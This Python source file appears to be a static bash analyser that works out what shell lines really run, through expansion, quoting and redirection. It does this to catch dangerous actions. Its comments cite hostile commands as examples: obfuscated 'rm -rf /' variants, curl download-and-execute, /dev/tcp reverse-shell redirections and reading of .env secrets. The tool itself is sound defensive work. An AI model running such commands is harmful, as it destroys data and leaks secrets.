        if body.type == "pipeline" and words_after:  # `find . | xargs> -0 rm`: `rm` is xargs' word
            carried = tuple(
                f for w in words_after for f in _eval(w, src, state, via, level, depth + 1).fields
            )
            out = _pipeline(body, src, state, via, level, depth + 1, stdin, carried)
        else:
            out = _walk(body, src, state, via, level, depth + 1, stdin)
        _wrote(state, redirects, out)
        if redirects and body.type == "pipeline" and len(state.commands) > recorded:
            # `cat /dev/urandom | head -c 4K > KEY`: the pipeline's last command writes the file
            final = state.commands[-1]
            state.commands[-1] = dataclasses.replace(final, redirects=(*final.redirects, *redirects))
    out = None if redirects else out
    for rest in after:  # `cat <<EOF | sh` and `cat <<EOF > f && sh f` continue inside the heredoc node
        out = _walk(rest, src, state, via, level, depth + 1, out if rest.type == "pipeline" else None)
    return out


def _discards_output(node: Node, src: _Src) -> bool:
    """A statement whose last word on its standard output sends it to `/dev/null` (`> /dev/null`, `1>`,
    `&>`, `>/dev/null 2>&1`): nothing it prints is shown."""
    discarded = False
    for redirect in node.children:
        if redirect.type != "file_redirect":
            continue
        descriptor = next((c for c in redirect.children if c.type == "file_descriptor"), None)
        fd = src.data[descriptor.start_byte : descriptor.end_byte] if descriptor is not None else b"1"
        operator = next((c.type for c in redirect.children if not c.is_named), "")
        target = next((c for c in redirect.children if c.is_named and c.type != "file_descriptor"), None)
        text = src.data[target.start_byte : target.end_byte] if target is not None else b""
        if fd == b"1" and operator in (">", ">|", "&>", ">>", "&>>"):
            discarded = text == b"/dev/null"
        elif fd == b"1" and operator == ">&":
            discarded = False  # `1>&2`: shown on the other stream
    return discarded


def _redirect(
    node: Node,
    src: _Src,
    state: _State,
    via: tuple[str, ...],
    level: int,
    depth: int,
    targets: list[str],
    stdin: _Stream | None,
    after: list[Node] | None = None,
    words: list[Node] | None = None,
) -> _Stream | None:
    """Record one redirection; returns the stdin it provides (heredoc, herestring) if any. Words after a
    file redirection's target (tree-sitter-bash reads them as more targets) are the command's arguments in
    bash: they go to `words`."""
    if not _tick(state, depth):
        return stdin
    kind = node.type
    if kind == "heredoc_redirect":
        body = ""
        quoted_delim = False
        for child in node.named_children:
            if child.type == "heredoc_start":
                quoted_delim = src.text(child).startswith(("'", '"', "\\"))
            elif child.type == "heredoc_body":
                body = src.text(child)
                if not quoted_delim:
                    _eval_heredoc(child, src, state, via, level, depth)
            elif child.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                _redirect(child, src, state, via, level, depth + 1, targets, None)
            elif child.type != "heredoc_end" and after is not None:
                after.append(child)
        state.payloads.append(body)
        return _Stream(body, ("heredoc",))
    if kind == "herestring_redirect":
        for child in node.named_children:
            word = _eval(child, src, state, via, level, depth + 1, quoted=True)
            text = " ".join(word.fields)
            state.payloads.append(text)
            fetched = _download_source(src.text(child), state) if word.dynamic else ""
            return _Stream(None if word.dynamic else text + "\n", ("herestring", *filter(None, [fetched])))
        return stdin
    operator = ""
    destination: Node | None = None
    for child in node.children:
        if not child.is_named and child.type not in ("(", ")"):
            operator = child.type
        elif child.is_named and child.type != "file_descriptor":
            if destination is None:
                destination = child
            elif child.type == "number" and src.data[child.end_byte : child.end_byte + 1] in (b">", b"<"):
                continue  # `2>&$R 0>&$R`: the next redirection's descriptor, which the grammar lends here
            elif words is not None:  # `find ~ 2>/dev/null -exec curl ...`: bash's words, the command's
                words.append(child)
    if destination is None:
        return stdin
    word = _eval(destination, src, state, via, level, depth + 1, quoted=True)
    target = "".join(word.fields)
    if not target or (operator.endswith("&") and target.isdigit()) or target == "-":
        return stdin
    if target.startswith(("/dev/tcp/", "/dev/udp/")):
        _dev_tcp(target, state)
    path = canonical(target, state.cwd, state.home) if not word.dynamic else target
    if operator in ("<", "<&"):
        if path == "/dev/null":  # `cc -E - </dev/null`: known, and empty
            return _Stream("", ("</dev/null",))
        state.paths.append(path)
        if path in state.written:  # `echo CODE > f && sh < f`: the shell reads what the line wrote
            return _Stream(state.written[path], ("<" + _basename(path),))
        if not word.dynamic:  # `python3 < tool.py`, `bash < setup.sh`: what is on disk is what is read
            return _Stream(read_source(path, state.cwd, state.home), ("<" + _basename(path),))
        return stdin
    if path in ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"):
        return stdin
    state.paths.append(path)
    state.write_paths.append(path)
    targets.append(path)
    if operator.endswith(">>"):
        state.appended.add(path)
    return stdin


def _eval_heredoc(node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int) -> None:
    """An unquoted heredoc expands substitutions: analyse them."""
    for child in node.named_children:
        if child.type in ("command_substitution", "process_substitution"):
            _substitution(child, src, state, via, level, depth + 1)


def _pipeline(
    node: Node,
    src: _Src,
    state: _State,
    via: tuple[str, ...],
    level: int,
    depth: int,
    stdin: _Stream | None,
    last_words: tuple[str, ...] = (),
) -> _Stream | None:
    """A pipeline's commands, each fed what the one before prints; `last_words`: arguments of its last
    command that the grammar placed after a redirection."""
    stream = stdin
    starts = []
    children = node.named_children
    for i, child in enumerate(children):
        starts.append(len(state.commands))
        if last_words and i == len(children) - 1 and child.type == "command":
            out = _command(child, src, state, via, level, depth + 1, stream, (), last_words)
        else:
            out = _walk(child, src, state, via, level, depth + 1, stream)
        stream = _next_stream(stream, out, state)
    _hide_counted(state, starts)
    return stream


def _hide_counted(state: _State, starts: list[int]) -> None:
    """`cat .env | grep API | wc -l`: a pipeline that ends in a program printing none of what it reads (a
    count, the names of `NAME=value` lines), through filters that only pass lines on, shows nothing of its
    first stages' output; their commands are marked `output_hidden` (those of a substitution are not: what
    `$()` prints becomes words of the line)."""
    from limen.facts.secrets import PIPE_FILTERS, prints_no_content

    if len(starts) < 2:
        return
    stages = [state.commands[a:b] for a, b in zip(starts, [*starts[1:], len(state.commands)], strict=True)]
    top = [next((c for c in stage if "$()" not in c.via and "<()" not in c.via), None) for stage in stages]
    last, middle = top[-1], top[1:-1]
    if last is None or not prints_no_content(last.argv, state.cwd):
        return
    if any(target.startswith(("/dev/tcp/", "/dev/udp/")) for target in last.redirects):
        return  # (a count or a sealed copy written to a file is still not shown)
    if any(c is None or c.redirects or c.name not in PIPE_FILTERS for c in middle):
        return
    for i in range(starts[0], starts[-1]):
        command = state.commands[i]
        if "$()" not in command.via and "<()" not in command.via and not command.redirects:
            state.commands[i] = replace(command, output_hidden=True)


def _next_stream(stream: _Stream | None, out: _Stream | None, state: _State) -> _Stream:
    """What the next pipeline stage reads: this stage's output when known, and the commands it came from."""
    name = _last_name(state)
    sources = (stream.sources if stream else ()) + ((name,) if name else ())
    decoders = stream.decoders if stream else ()
    if out is not None:
        return _Stream(out.text, sources, out.decoders or decoders)
    return _Stream(None, sources, decoders)


def _last_name(state: _State) -> str:
    """The name of the last top-level command recorded for a pipeline stage (for stdin provenance)."""
    for command in reversed(state.commands):
        if "$()" not in command.via and "<()" not in command.via:
            return command.name
    return ""


# --------------------------------------------------------------------------- words


def _eval(
    node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int, quoted: bool = False
) -> _Word:
    """Evaluate a word node statically into its fields."""
    text, dynamic, globbing = _eval_parts(node, src, state, via, level, depth, quoted)
    if dynamic:
        state.dynamic_words.update(text.split(_SPLIT))
    if quoted:
        fields = [text.replace(_SPLIT, " ")]
    else:
        fields = [f for f in text.split(_SPLIT) if f]
        if not fields and node.type in ("string", "raw_string", "ansi_c_string", "concatenation"):
            fields = [""]  # a quoted empty word is still an argument: `sed '' file`
        elif "{" in text and ("," in text or ".." in text) and not _QUOTING.search(src.text(node)):
            fields = [b for f in fields for b in _braces(f, state)]  # `rm -rf {/,x}` is `rm -rf / x`
    return _Word(fields, dynamic, globbing, src.text(node))


_QUOTING = re.compile(r"['\"\\`$]")
_BRACE = re.compile(r"\{([^{}]*,[^{}]*)\}")
_SEQUENCE = re.compile(r"\{(-?\d{1,6}|[A-Za-z])\.\.(-?\d{1,6}|[A-Za-z])(?:\.\.(-?\d{1,6}))?\}")


def expand_braces(word: str) -> list[str]:
    """A glob's or a word's brace alternatives as bash expands them (`{a,b}.pem`: `a.pem b.pem`), bounded."""
    return _braces(word)


def _braces(word: str, state: _State | None = None, budget: int = 64) -> list[str]:
    """Bash brace expansion (`a{b,c}d` -> `abd acd`, `f{1..3}` -> `f1 f2 f3`), bounded. Past the bound a
    list of alternatives makes the line opaque; a long sequence (`{1..1000}`) keeps its first terms, which
    differ from the rest only in the counter."""
    match = _BRACE.search(word)
    sequence = _SEQUENCE.search(word)
    if sequence is not None and (match is None or sequence.start() < match.start()):
        out: list[str] = []
        for term in _sequence(sequence):
            out.extend(_braces(word[: sequence.start()] + term + word[sequence.end() :], state, budget))
            if len(out) >= budget:
                return out[:budget]
        return out
    if not match:
        return [word]
    out = []
    for part in match.group(1).split(","):
        for expanded in _braces(word[: match.start()] + part + word[match.end() :], state, budget):
            out.append(expanded)
            if len(out) >= budget:
                if state is not None:
                    state.flag("brace expansion past the bound")
                return out
    return out


def _sequence(match: re.Match[str]) -> list[str]:
    first, last, step = match.group(1), match.group(2), match.group(3)
    by = abs(int(step)) if step and int(step) else 1
    if first.lstrip("-").isdigit() and last.lstrip("-").isdigit():
        a, b = int(first), int(last)
        width = len(first) if first.startswith("0") and len(first) > 1 else 0
        terms = range(a, b + 1, by) if a <= b else range(a, b - 1, -by)
        return [str(t).zfill(width) for t in list(terms)[:64]]
    if first.isalpha() and last.isalpha() and len(first) == len(last) == 1:
        a, b = ord(first), ord(last)
        terms = range(a, b + 1, by) if a <= b else range(a, b - 1, -by)
        return [chr(t) for t in list(terms)[:64]]
    return [match.group(0)]


def _eval_parts(
    node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int, quoted: bool
) -> tuple[str, bool, bool]:
    if not _tick(state, depth):
        return src.text(node), True, False
    kind = node.type
    if kind == "word" or kind == "number":
        raw = src.text(node)
        text = _unescape_word(raw)
        if raw.startswith("~") and raw[1:2] not in ("", "/"):
            text = _tilde_user(text, state)  # `~root/.ssh`, `~alice`, `~+`
        return text, False, (not quoted) and any(c in raw for c in "*?[")
    if kind == "raw_string":
        return src.text(node)[1:-1], False, False
    if kind == "ansi_c_string":
        return _ansi_c(src.text(node)[2:-1]), False, False
    if kind in ("string", "translated_string"):
        return _eval_string(node, src, state, via, level, depth)
    if kind == "concatenation":
        return _eval_concat(node, src, state, via, level, depth, quoted)
    if kind in ("simple_expansion", "expansion"):
        if kind == "expansion" and node.named_child_count > 1:
            _scan_nested(node, src, state, via, level, depth)  # `${x:-$(rm -rf /)}` runs its default
        return _expand(node, src, state, quoted)
    if kind == "command_substitution":
        text, dynamic, globbing = _eval_substitution(node, src, state, via, level, depth)
        return (text if quoted or dynamic else _split_fields(text, state)), dynamic, globbing
    if kind == "process_substitution":
        _substitution(node, src, state, via, level, depth)
        return src.text(node), True, False
    if kind == "arithmetic_expansion":
        _scan_nested(node, src, state, via, level, depth)
        return src.text(node), False, False
    _scan_nested(node, src, state, via, level, depth)
    return src.text(node), False, False


_TILDE_USER = re.compile(r"~([A-Za-z_][\w.-]*\$?|\+)(?=/|$)")


def _tilde_user(text: str, state: _State) -> str:
    """Bash's tilde expansion of `~user` (that user's home) and `~+` (the working directory)."""
    match = _TILDE_USER.match(text)
    if match is None:
        return text
    user = match.group(1)
    if user == "+":
        home = state.cwd
    elif user == "root":
        home = "/root"
    elif user == os.path.basename(state.home.rstrip("/")):
        home = state.home
    else:
        home = os.path.join(os.path.dirname(state.home.rstrip("/")) or "/home", user)
    return home + text[match.end() :]


def _scan_nested(node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int) -> None:
    for child in node.named_children:
        if child.type in ("command_substitution", "process_substitution"):
            _substitution(child, src, state, via, level, depth + 1)
        elif child.named_child_count:
            _scan_nested(child, src, state, via, level, depth + 1)


def _eval_concat(
    node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int, quoted: bool
) -> tuple[str, bool, bool]:
    parts: list[str] = []
    dynamic = globbing = False
    children = node.children
    i = 0
    while i < len(children):
        child = children[i]
        if (
            child.type in ("word", "$")
            and src.text(child) == "$"
            and i + 1 < len(children)
            and children[i + 1].type in ("raw_string", "string")
        ):
            nxt = children[i + 1]
            inner = src.text(nxt)[1:-1]
            parts.append(_ansi_c(inner) if nxt.type == "raw_string" else inner)
            i += 2
            continue
        text, dyn, glb = _eval_parts(child, src, state, via, level, depth + 1, quoted)
        parts.append(text)
        dynamic |= dyn
        globbing |= glb
        i += 1
    return "".join(parts), dynamic, globbing


def _eval_string(
    node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int
) -> tuple[str, bool, bool]:
    parts: list[str] = []
    dynamic = False
    cursor = node.start_byte + 1
    end = node.end_byte - 1
    if src.data[node.start_byte : node.start_byte + 1] == b"$":
        cursor += 1
    for child in node.named_children:
        if child.start_byte > cursor:
            parts.append(_unescape_dq(src.data[cursor : child.start_byte].decode("utf-8", "replace")))
        if child.type == "string_content":
            parts.append(_unescape_dq(src.text(child)))
        else:
            text, dyn, _ = _eval_parts(child, src, state, via, level, depth + 1, True)
            parts.append(text)
            dynamic |= dyn
        cursor = max(cursor, child.end_byte)
    if end > cursor:
        parts.append(_unescape_dq(src.data[cursor:end].decode("utf-8", "replace")))
    return "".join(parts), dynamic, False


def _expand(node: Node, src: _Src, state: _State, quoted: bool) -> tuple[str, bool, bool]:
    raw = src.text(node)
    if raw[1:2].isspace():  # `$ ls` (a pasted prompt): bash reads a lone `$` literally
        return "$" + (" " if quoted else _SPLIT) + raw[1:].strip(), False, False
    names = [c for c in node.named_children if c.type in ("variable_name", "special_variable_name")]
    name = src.text(names[0]) if names else ""
    if name in ("SHELL", "BASH"):
        return "sh", False, False
    if name == "IFS" and raw in ("$IFS", "${IFS}"):
        ifs = state.vars.get("IFS", " ")
        return ((ifs if ifs is not None else " ") if quoted else _SPLIT), False, False
    if raw.startswith("${") and "[" in raw:
        return _expand_array(raw, state, quoted)
    if name == "@" and raw in ("$@", "${@}") and state.arrays.get("@") is not None:
        return _expand_array("${@[@]}", state, quoted)  # `"$@"`: one field per positional parameter
    simple = node.type == "simple_expansion" or raw == "${" + name + "}"
    value = _variable(name, state)
    if raw.startswith("${!"):  # `${!x}`: the variable x names
        indirect = _variable(name, state) if _INDIRECT.fullmatch(raw) else None
        value = _variable(indirect, state) if indirect and re.fullmatch(r"\w+", indirect) else None
    elif not simple:
        value = _operator(raw, value if value is not None else _TYPICAL.get(name))
    if value is None:
        return (state.listed.get(name, raw) if simple and name in state.vars else raw), True, False
    if not quoted:
        value = _split_fields(value, state)
    return value, False, False


# What an unset variable holds on any ordinary system, for operators only (`${PATH:0:1}` is `/`).
_TYPICAL = {"PATH": "/usr/local/bin:/usr/bin:/bin", "PS4": "+ ", "OLDPWD": "/"}
_INDIRECT = re.compile(r"\$\{!\w+\}")
_SUBSCRIPT = re.compile(r"\$\{(#?)(\w+|@)\[([^\]]*)\]\}")


def _split_fields(value: str, state: _State) -> str:
    """Field splitting of an unquoted expansion on IFS, as bash does it: IFS white space runs collapse,
    every other IFS character ends a field (`IFS=,; x=rm,-rf,/; $x` runs `rm -rf /`)."""
    ifs = state.vars.get("IFS", " \t\n") if "IFS" in state.vars else " \t\n"
    if ifs is None:
        ifs = " \t\n"
    if not ifs:
        return value
    white = "".join(c for c in ifs if c in " \t\n")
    other = "".join(c for c in ifs if c not in " \t\n")
    if other:
        w = f"[{re.escape(white)}]*" if white else ""
        pattern = f"{w}[{re.escape(other)}]{w}" + (f"|[{re.escape(white)}]+" if white else "")
        value = value.strip(white) if white else value
        return re.sub(pattern, _SPLIT, value)
    return re.sub(f"[{re.escape(white)}]+", _SPLIT, value)


def _expand_array(raw: str, state: _State, quoted: bool) -> tuple[str, bool, bool]:
    """`${a[@]}`, `"${a[@]}"`, `${a[*]}`, `${a[1]}`, `${#a[@]}` of an array the line assigned."""
    match = _SUBSCRIPT.fullmatch(raw)
    if match is None:
        return raw, True, False
    length, name, index = match.groups()
    if name in state.arrays:
        elements = state.arrays[name]
    else:
        scalar = _variable(name, state)
        elements = None if scalar is None else [scalar]
    if elements is None:
        return raw, True, False
    if index in ("@", "*"):
        if length:
            return str(len(elements)), False, False
        if quoted and index == "*":
            return " ".join(elements), False, False
        parts = elements if quoted else [_split_fields(e, state) for e in elements]
        return _SPLIT.join(parts), False, False  # `"${a[@]}"`: one field per element
    if not index.lstrip("-").isdigit():
        return raw, True, False
    at = int(index)
    value = elements[at] if -len(elements) <= at < len(elements) else ""
    if length:
        return str(len(value)), False, False
    return (value if quoted else _split_fields(value, state)), False, False


def _variable(name: str, state: _State) -> str | None:
    if name in state.vars:
        return state.vars[name]
    return {"HOME": state.home, "PWD": state.cwd}.get(name)


_PARAMETER_OP = re.compile(r"^\$\{(#?)(\w+|[@*#?$!])(?:(:?[-=+?])(.*)|:\s*(-?\d+)(?::\s*(-?\d+))?)?\}$", re.S)


_STRING_OP = re.compile(r"^\$\{(\w+)(//?|/#|/%|##?|%%?|\^\^?|,,?)(.*)\}$", re.S)


def _string_operator(raw: str, value: str | None) -> str | None:
    """`${X//a/b}`, `${X/a/b}`, `${X#p}`, `${X%%p}`, `${X^^}`, `${X,,}`: bash's pattern and case operators,
    when the value and the pattern are known (`x=RM; ${x,,} -rf /` runs `rm`)."""
    match = _STRING_OP.match(raw)
    if match is None or value is None:
        return None
    _, op, rest = match.groups()
    if re.search(r"[$`\\'\"]", rest):
        return None
    if op in ("^^", "^", ",,", ","):
        if rest:
            return None
        if op == "^^":
            return value.upper()
        if op == ",,":
            return value.lower()
        return (value[:1].upper() if op == "^" else value[:1].lower()) + value[1:]
    if op.startswith("/"):
        pattern, _, replacement = rest.partition("/")
        regex = _glob_regex(pattern, greedy=True)
        if op == "/#":
            regex = "^" + regex
        elif op == "/%":
            regex = regex + "$"
        return re.sub(regex, lambda m: replacement, value, count=0 if op == "//" else 1) if pattern else value
    greedy = op in ("##", "%%")
    regex = _glob_regex(rest, greedy=greedy)
    if op.startswith("#"):
        found = re.match(regex, value)
        return value[found.end() :] if found else value
    ends = [m.start() for i in range(len(value) + 1) if (m := re.compile(regex + "$").match(value, i))]
    if not ends:
        return value
    return value[: (min(ends) if greedy else max(ends))]


def _glob_regex(pattern: str, *, greedy: bool) -> str:
    """A shell pattern (`*`, `?`, `[...]`) as a regex, shortest (`#`, `%`) or longest (`##`, `%%`, `/`)."""
    out: list[str] = []
    for char in pattern:
        if char == "*":
            out.append(".*" if greedy else ".*?")
        elif char == "?":
            out.append(".")
        else:
            out.append(re.escape(char))
    return "".join(out)


def _operator(raw: str, value: str | None) -> str | None:
    """`${X:-w}`, `${X:+w}`, `${X:off:len}`, `${#X}` when statically decidable (`${X:-/}` may well be `/`)."""
    match = _PARAMETER_OP.match(raw)
    if not match:
        return _string_operator(raw, value)
    length, _, op, word, offset, count = match.groups()
    if length:
        return str(len(value)) if value is not None else None
    if op:
        literal = None if re.search(r"[$`'\"\\]", word) else word
        if op.endswith(("-", "=")):
            return value if value else literal
        if op.endswith("+"):
            return literal if value else ("" if value is not None else None)
        return value
    if offset is not None and value is not None:
        start = int(offset)
        start = max(len(value) + start, 0) if start < 0 else start
        return value[start : start + int(count)] if count is not None else value[start:]
    return None


def _eval_substitution(
    node: Node, src: _Src, state: _State, via: tuple[str, ...], level: int, depth: int
) -> tuple[str, bool, bool]:
    """`$(...)`: analyse what it runs; its value is known only for a plain echo/printf."""
    before = len(state.commands)
    out: _Stream | None = None
    for child in node.named_children:
        out = _walk(child, src, state, (*via, "$()"), level, depth + 1)
    ran = state.commands[before:]
    pure = node.named_child_count == 1 and all(c.name in _PURE for c in ran)
    if out is not None and out.text is not None and pure:
        return out.text.rstrip("\n"), False, False
    if ran and _LOOKUP.fullmatch(" ".join(ran[0].argv)) and all(c.name in _PURE for c in ran[1:]):
        # `$(which find)` runs find; as an operand it is the file (`ln -sf /bin/true $(which limen-hook)`),
        # with a fallback written after it too (`$(command -v limen-hook || echo /usr/local/bin/...)`)
        return _on_path(ran[0].argv[-1]), False, False
    if len(ran) == 1 and ran[0].argv in (("pwd",), ("pwd", "-P"), ("pwd", "-L")):
        return state.cwd, False, False
    own = [c for c in ran if c.via == (*via, "$()")]
    if len(own) == 1 and _RESOLVES.fullmatch(" ".join(own[0].argv[:-1])):
        word = own[0].argv[-1]  # `$(readlink -f $(which limen))`: the file the name leads to
        if word not in state.dynamic_words and not word.startswith("-"):
            found = os.path.realpath(canonical(word, state.cwd, state.home)) if "/" in word else word
            return found, False, False
    if len(ran) == 1 and ran[0].name in ("dirname", "basename") and len(ran[0].argv) == 2:
        word = ran[0].argv[1]  # `$(dirname /etc)` is `/`
        if word not in state.dynamic_words and not word.startswith("-"):
            trimmed = word.rstrip("/") or "/"
            if ran[0].name == "basename":
                return trimmed.rsplit("/", 1)[-1] or "/", False, False
            return (trimmed.rsplit("/", 1)[0] or "/") if "/" in trimmed else ".", False, False
    return src.text(node), True, False


def _on_path(name: str) -> str:
    """Where `which NAME` finds a program on this machine's PATH, else the name (run by name all the same)."""
    import shutil

    found = shutil.which(name)
    return os.path.abspath(found) if found else name


_PURE = frozenset({"echo", "printf", "base64", "base32", "basenc", "xxd", "rev", "cat", "tr"})
_LOOKUP = re.compile(r"(which|command -v|type -[pP]) [\w.+-]+")
# Programs that print the file a path leads to, links followed (`readlink -f`, `realpath`)
_RESOLVES = re.compile(r"readlink -[fem](?: --)?|realpath(?: -[esmP])*(?: --)?")


_WORD_ESCAPE = re.compile(r"\\(.)", re.S)


def _unescape_word(raw: str) -> str:
    if "\\" not in raw:
        return raw
    return _WORD_ESCAPE.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), raw)


_DQ_ESCAPE = re.compile(r'\\([$`"\\\n])')


def _unescape_dq(raw: str) -> str:
    if "\\" not in raw:
        return raw
    return _DQ_ESCAPE.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), raw)


_C_ESCAPES = {
    "a": "\a",
    "b": "\b",
    "e": "\x1b",
    "E": "\x1b",
    "f": "\f",
    "n": "\n",
    "r": "\r",
    "t": "\t",
    "v": "\v",
    "\\": "\\",
    "'": "'",
    '"': '"',
    "?": "?",
}
_C_ESCAPE = re.compile(r"\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{1,4}|U[0-9a-fA-F]{1,8}|[0-7]{1,3}|c.|.)", re.S)


def _ansi_c(body: str) -> str:
    """Decode `$'...'` (and `echo -e`/`printf`) escapes."""

    def one(match: re.Match[str]) -> str:
        esc = match.group(1)
        head = esc[0]
        try:
            if head == "x":
                return chr(int(esc[1:], 16))
            if head in "uU":
                return chr(int(esc[1:], 16))
            if head.isdigit():
                return chr(int(esc, 8) & 0xFF)
            if head == "c" and len(esc) == 2:
                return chr(ord(esc[1]) & 0x1F)
        except (ValueError, OverflowError):
            return match.group(0)
        return _C_ESCAPES.get(esc, match.group(0))

    return _C_ESCAPE.sub(one, body)


_PRINTF_SPEC = re.compile(r"%(%|[-+ #0]*\d*(?:\.\d+)?([sbdiucxXoqfeEgG]))")


def _printf(argv: list[str]) -> str:
    """Static `printf FORMAT ARGS...` (the format is reused while arguments remain, as bash does)."""
    if not argv:
        return ""
    fmt, args = argv[0], argv[1:]
    if fmt == "--" and args:
        fmt, args = args[0], args[1:]
    out: list[str] = []
    for _ in range(4096):  # bounded by the line's length long before this
        pieces: list[str] = []
        cursor = used = 0
        for match in _PRINTF_SPEC.finditer(fmt):
            pieces.append(_ansi_c(fmt[cursor : match.start()]))
            cursor = match.end()
            if match.group(1) == "%":
                pieces.append("%")
                continue
            value = args[used] if used < len(args) else ""
            used += 1
            conv = match.group(2)
            pieces.append(_ansi_c(value) if conv == "b" else value[:1] if conv == "c" else value)
        pieces.append(_ansi_c(fmt[cursor:]))
        out.append("".join(pieces))
        args = args[used:]
        if not args or used == 0:
            break
    return "".join(out)


def _echo(argv: list[str]) -> str:
    escapes = False
    newline = True
    words = list(argv)
    while words and re.fullmatch(r"-[neE]+", words[0]):
        flag = words.pop(0)
        newline = newline and "n" not in flag
        escapes = "e" in flag or (escapes and "E" not in flag)
    text = " ".join(words)
    return (_ansi_c(text) if escapes else text) + ("\n" if newline else "")


# --------------------------------------------------------------------------- commands


_NULL_COMMANDS = frozenset({":", "true"})
# a sed script that deletes or blanks every line: `d`, `1,$d`, `/./d`, `/^/d`, `/.*/d`, `s/.*//`, `s/^.*$//g`
_SED_DELETE_ALL = re.compile(
    r"\s*(?:(?:(?:1[ \t]*,[ \t]*\$|/\^?\.?\*?/|/\^/|/\$/)[ \t]*)?d|s(.)\^?\.[*+]\$?\1\1g?)(?:[ \t]*;)?\s*"
)


def _listed(loop: Node, src: _Src) -> str | None:
    """`for f in $(git ls-files)`: the loop variable stands for the list the substitution prints, as
    `rm $(git ls-files)` names it, so a delete in the body is judged as one of the whole list."""
    values = loop.children_by_field_name("value")
    if len(values) == 1 and values[0].type == "command_substitution":
        return src.text(values[0])
    return None


def emptied_operands(name: str, argv: list[str]) -> list[str]:
    """The files a command leaves empty (`truncate -s 0 F`, `cp /dev/null F`, `sed -i '1,$d' F`): what
    deleting them would lose, so the delete rules judge them as `rm -f F`."""
    words = argv[1:]
    if name == "truncate":
        zero, files, skip = False, [], False
        for i, word in enumerate(words):
            if skip:
                skip = False
            elif word in ("-s", "--size", "-r", "--reference"):
                zero = zero or (word in ("-s", "--size") and words[i + 1 : i + 2] == ["0"])
                skip = True
            elif word.startswith(("-s", "--size=")):
                zero = zero or word.removeprefix("--size=").removeprefix("-s") == "0"
            elif not word.startswith("-"):
                files.append(word)
        return (files or ["{}"]) if zero else []  # none named: what xargs or find hands it (`{}`)
    if name == "cp" and len(words) >= 2 and words[-2] == "/dev/null":
        return [words[-1]]
    if name in ("sed", "gsed") and any(w.startswith(("-i", "--in-place")) for w in words):
        operands = [w for w in words if not w.startswith("-")]
        if len(operands) >= 2 and _SED_DELETE_ALL.fullmatch(operands[0]):
            return operands[1:]
    return []


def _record_emptied(state: _State, files: list[str], via: tuple[str, ...]) -> None:
    if files == ["{}"] and "xargs" in via:  # `xargs truncate -s 0`: its input names the files, as for rm
        _record(state, Command(argv=("rm", "-f"), name="rm", via=(*via, "empties")))
    elif files:
        _record(state, Command(argv=("rm", "-f", *files), name="rm", via=(*via, "empties")))


def _record(state: _State, command: Command) -> None:
    if len(state.commands) < MAX_COMMANDS:
        state.commands.append(command)
    else:  # nothing is dropped silently: past the bound the line is opaque
        state.flag("too many commands")
        state.stopped = True


def _command(
    node: Node,
    src: _Src,
    state: _State,
    via: tuple[str, ...],
    level: int,
    depth: int,
    stdin: _Stream | None,
    redirects: tuple[str, ...],
    trailing: tuple[str, ...] = (),
) -> _Stream | None:
    argv: list[str] = []
    dynamic_name = False
    name_seen = False
    extra_redirects = list(redirects)
    prefix_env: dict[str, str | None] = {}
    previous_end = node.start_byte
    for child in node.named_children:
        kind = child.type
        if kind == "variable_assignment" and not name_seen:
            key = child.child_by_field_name("name")
            value = child.child_by_field_name("value")
            word = _eval(value, src, state, via, level, depth + 1, quoted=True) if value is not None else None
            if key is not None:
                prefix_env[src.text(key)] = None if word is None or word.dynamic else "".join(word.fields)
                _limen_variable(src.text(key), state)
                if word is not None and not word.dynamic:
                    _endpoint_variable(src.text(key), word.fields, state)
                if word is not None and not word.dynamic:
                    _exported_function("".join(word.fields), state, via, level)
            continue
        if kind in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
            stdin = _redirect(child, src, state, via, level, depth + 1, extra_redirects, stdin)
            continue
        if kind == "command_name":
            name_seen = True
            inner = child.named_children[0] if child.named_child_count else child
            word = _eval(inner, src, state, via, level, depth + 1)
            dynamic_name = word.dynamic
            if dynamic_name and _from_download(src.text(inner), state):
                state.note("download_exec")  # `$(curl -s URL)`: what the download prints is the command
            if word.glob and not word.dynamic and len(word.fields) == 1:
                matches = _command_glob(word.fields[0], state)  # `/bin/r? -rf ~`: bash runs what it matches
                if matches is None:
                    dynamic_name = True
                elif matches:
                    word = _Word(matches)
            argv.extend(word.fields)
            previous_end = child.end_byte
            continue
        if kind == "comment" or (kind == "number" and (id(src), child.start_byte) in state.descriptors):
            continue
        if argv and b"\n" in src.data[previous_end : child.start_byte]:
            # tree-sitter-bash #347: after a pipeline of 3+ stages a newline may not end the command, so the
            # next line's words arrive as arguments. A newline always ends a simple command: split here.
            state.note("parser joined lines: split at the newline")
            _run(argv, state, via, level, stdin, tuple(extra_redirects), dynamic_name)
            argv, stdin, extra_redirects = [], None, []
            word = _eval(child, src, state, via, level, depth + 1)
            dynamic_name = word.dynamic
        else:
            word = _eval(child, src, state, via, level, depth + 1)
        previous_end = child.end_byte
        if word.glob:
            _add_glob(word, state)
        argv.extend(word.fields)
    argv.extend(trailing)
    if not argv:
        return None
    if prefix_env:
        if any(  # `RAILS_ENV=test ...`, `DJANGO_SETTINGS_MODULE=app.settings.local ...`
            (n in _APP_ENVIRONMENT or n.endswith("SETTINGS_MODULE"))
            and re.split(r"[./_-]", v or "")[-1] in _SCRATCH_ENVIRONMENTS
            for n, v in prefix_env.items()
        ):
            state.note(SCRATCH_DATABASE_NOTE)
        if _basename(argv[0]) in _RAILS_COMMANDS:  # Rails' guard and environment, as words Rails also takes
            for name in ("DISABLE_DATABASE_ENVIRONMENT_CHECK", *_APP_ENVIRONMENT[:2]):
                if prefix_env.get(name):
                    argv.append(f"{name}={prefix_env[name]}")
        elif _takes_environment(argv):
            # the environment of a deploy or migration tool named (`MIX_ENV=prod mix ecto.migrate`,
            # `DJANGO_SETTINGS_MODULE=app.settings.local manage.py flush`), as a word its rules read
            argv.extend(
                f"{n}={v}"
                for n, v in prefix_env.items()
                if v and ENVIRONMENT_VARIABLE.search(n) and (PRODUCTION.search(v) or NOT_PRODUCTION.search(v))
            )
